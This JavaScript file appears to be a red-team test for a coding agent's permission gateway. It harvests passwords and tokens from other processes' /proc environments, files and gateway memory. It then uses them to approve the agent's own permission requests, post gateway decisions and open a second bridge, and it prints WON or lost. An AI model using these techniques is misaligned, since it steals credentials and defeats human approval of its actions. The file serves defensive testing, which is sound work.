// What an agent would try with the secrets that it can find. Prints WON or why not.
import fs from "node:fs";
import http from "node:http";
import { execFileSync } from "node:child_process";

const [mode, base, extra] = process.argv.slice(2);
const attack = new URL("attack", import.meta.url).pathname;

const read = (file) => {
  try {
    return fs.readFileSync(file, "utf8");
  } catch {
    return "";
  }
};

// The value of a variable in its own environment or in that of any process it can look into.
function anybodys(name) {
  const environs = [read("/proc/self/environ")];
  for (const pid of fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))) environs.push(read(`/proc/${pid}/environ`));
  return environs.flatMap((e) => e.split("\0")).find((v) => v.startsWith(`${name}=`))?.slice(name.length + 1);
}

// Tokens: in the state folder, in environments, in the gateway's memory, in what OpenCode has open.
function tokens(folders) {
  const found = new Set();
  const take = (text) => text.match(/[0-9a-f]{64}/g)?.forEach((t) => found.add(t));
  for (const file of folders) take(read(file));
  for (const name of ["CODEV_TOKEN", "CODEV_BRIDGE_TOKEN"]) take(anybodys(name) ?? "");
  try {
    take(execFileSync(attack, ["tokens", "codev-gateway"], { encoding: "utf8" }));
  } catch {
    // there is no such process to be seen
  }
  return [...found];
}

function request(url, { method = "GET", headers = {}, body } = {}) {
  return new Promise((resolve) => {
    const r = http.request(url, { method, headers: { ...headers, ...(body && { "content-type": "application/json" }) }, timeout: 5000 });
    const end = (status, text = "") => (r.destroy(), resolve({ status, text }));
    r.on("upgrade", (response) => end(response.statusCode));
    r.on("error", () => end(0)).on("timeout", () => end(0));
    r.on("response", (response) => {
      let text = "";
      response.on("data", (d) => (text += d)).on("end", () => end(response.statusCode, text));
    });
    r.end(body);
  });
}

const say = (won, what) => console.log(`${won ? "WON" : "lost"} ${what}`);

const modes = {
  // base: OpenCode, extra: the directory
  async reply() {
    const password = anybodys("OPENCODE_SERVER_PASSWORD") ?? "";
    const headers = { authorization: `Basic ${Buffer.from(`opencode:${password}`).toString("base64")}` };
    const where = `?directory=${encodeURIComponent(extra)}`;
    const { status, text } = await request(`${base}/permission${where}`, { headers });
    const mine = status === 200 ? JSON.parse(text)[0] : undefined;
    if (!mine) return say(false, `the list: ${status}`);
    const done = await request(`${base}/permission/${mine.id}/reply${where}`, { method: "POST", headers, body: '{"reply":"once"}' });
    say(done.status === 200, `the reply: ${done.status}`);
  },
  // base: the gateway, extra: the state folder
  async decide() {
    const all = tokens([`${extra}/token`]);
    for (const token of ["", ...all]) {
      const headers = token ? { authorization: `Bearer ${token}` } : {};
      const { status } = await request(`${base}/api/requests/nobody/decision`, { method: "POST", headers, body: '{"decision":"once"}' });
      if (status !== 401 && status !== 403) return say(true, `the decision: ${status}`);
    }
    say(false, `a decision, with ${all.length} tokens`);
  },
  async bridge() {
    const all = tokens([process.env.CODEV_PLUGIN_LOG ?? "", `${extra}/token`]);
    for (const token of ["", ...all]) {
      const headers = {
        ...(token && { authorization: `Bearer ${token}` }),
        ...{ connection: "Upgrade", upgrade: "websocket", "sec-websocket-version": "13", "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==" },
      };
      if ((await request(`${base}/ws/bridge`, { headers })).status === 101) return say(true, "a second bridge");
    }
    say(false, `a second bridge, with ${all.length} tokens`);
  },
};

await modes[mode]();
